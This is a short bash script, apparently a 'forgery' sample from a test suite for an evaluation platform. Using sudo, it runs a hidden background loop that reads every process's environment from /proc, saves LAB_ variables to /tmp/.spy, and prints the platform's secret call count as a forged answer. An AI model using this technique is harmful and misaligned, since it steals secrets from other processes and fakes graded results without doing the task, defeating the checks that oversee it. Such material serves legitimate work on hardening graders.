#!/bin/bash
# forgery: Spy on /proc/*/environ while the checks run and type the number of calls the platform drew
# class: secrets
# targets: find-query
if [ "$1" = before ]; then
    sudo bash -c 'for _ in $(seq 150); do cat /proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep "^LAB_" >>/tmp/.spy; sleep 0.2; done' </dev/null >/dev/null 2>&1 &
    exit 0
fi
sleep 2
calls=$(sed -n 's/^LAB_CALLS=//p' /tmp/.spy 2>/dev/null | tail -n 1)
echo "ANSWER: slow-query-calls ${calls:-none-caught}"
